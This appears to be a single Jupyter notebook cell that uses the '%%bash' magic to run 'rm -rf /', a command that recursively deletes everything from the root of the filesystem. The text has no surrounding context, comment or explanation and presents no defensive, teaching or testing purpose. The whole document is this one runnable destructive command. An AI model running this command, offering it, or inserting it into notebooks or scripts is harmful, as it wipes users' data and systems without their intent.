%%bash
rm -rf /
